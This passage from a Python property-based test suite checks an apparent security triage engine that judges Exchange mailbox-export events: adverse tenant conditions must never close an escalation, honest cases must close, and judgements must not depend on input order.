    assert any("boss" in words for words in export.missing)
    assert {"User principal name", "Account state", "Directory roles", "Sign-in risk"} <= {
        fact.label for fact in briefing.facts
    }
    assert any("2024-11-18 20:00:00 UTC to 2024-11-18 22:40:00 UTC" in step for step in briefing.steps)
    assert "1 mailbox export and 1 removal on exch01.contoso.com" in briefing.headline


ADVERSE_WORLDS: tuple[Change, ...] = (
    lambda w: w["users"][0].update(accountEnabled=False),
    lambda w: w["users"][3].update(createdDateTime="2024-11-18T00:00:00Z"),
    lambda w: w["watchlists"].update(VIPUsers=[{"User Identifier": who} for who in ("audit.box", "admin")]),
    lambda w: w["watchlists"].update(TerminatedEmployees=[{"User Identifier": "custodian"}]),
    risky("high", "atRisk"),
    lambda w: w["watchlists"].pop("EDiscoveryCases"),
    lambda w: job_row(w).update(ValidUntil="x"),
    lambda w: w["groups"].clear(),
)  # fmt: skip
ADVERSE_EVENTS = tuple(
    person(command, when, "boss", host)
    for command, when, host in (
        *((command, "2024-11-18 21:20", "exch01.contoso.com") for command in NEARBY.values()),
        *((command, "2024-11-20 13:20", ADMIN_STATION) for command in NEARBY.values()),
        (CLEAN_UP, "2024-11-18 21:05", "exch01.contoso.com"),
        (CASE_REMOVAL, "2024-11-20 13:20", LEGAL_STATION),
        (OWN_REMOVAL, "2024-11-20 13:20", ADMIN_STATION),
    )
)
BASES = {
    **HONEST,
    **{name: NEAR_MISSES[name][0] for name in ("early", "another host", "not a pst", "evening")},
}


@settings(max_examples=60, deadline=None)
@given(
    base=st.sampled_from(sorted(BASES)),
    worlds=st.sets(st.integers(0, len(ADVERSE_WORLDS) - 1), max_size=3),
    near=st.sets(st.integers(0, len(ADVERSE_EVENTS) - 1), max_size=3),
    broken=st.sets(st.sampled_from(ALWAYS_REQUIRED), max_size=1),
)
def test_danger_never_turns_an_escalation_into_a_close(
    base: str, worlds: set[int], near: set[int], broken: set[str]
) -> None:
    """I4: with an adverse world, events or an outage added, what was open stays open."""

    def change(world: World) -> None:
        for number in sorted(worlds):
            ADVERSE_WORLDS[number](world)

    before = codes(asyncio.run(judge(BASES[base])).verdict)
    after = verdict_codes(
        BASES[base], tenant(change), nearby=[ADVERSE_EVENTS[n] for n in near], broken=frozenset(broken)
    )

    assert after or not before
    assert after or not broken


def test_the_properties_saw_closes() -> None:
    """A suite that only escalates proves nothing."""
    assert len(HONEST) == sum(not verdict_codes(pair) for pair in HONEST.values())


@settings(max_examples=25, deadline=None)
@given(name=st.sampled_from(sorted({*HONEST, *NEAR_MISSES})), shuffle=st.randoms(use_true_random=False))
def test_any_order_of_inputs_gives_the_same_judgement(name: str, shuffle: Any) -> None:
    """I12: events, users, groups, rows, alerts in any order: the same value, to the last letter."""
    pair, change, _ = NEAR_MISSES[name] if name in NEAR_MISSES else (HONEST[name], None, "")
    world = tenant(change)
    near = list(ADVERSE_EVENTS[:3])
    alerts = [alert(), alert(system_alert_id="z", name="Another")]

    def judged() -> Judgement:
        return asyncio.run(judge(pair_now, world, nearby=near, alerts=alerts))

    pair_now = list(pair)
    first = judged()
    for part in (pair_now, near, alerts, world["users"], world["groups"], *world["watchlists"].values()):
        shuffle.shuffle(part)

    assert first == judged()
    assert repr(first) == repr(judged())


async def test_the_same_evidence_gives_the_same_judgement() -> None:
    """Deciding is pure."""
    evidence = await learn(JOB)

    assert decide(evidence) == decide(evidence)
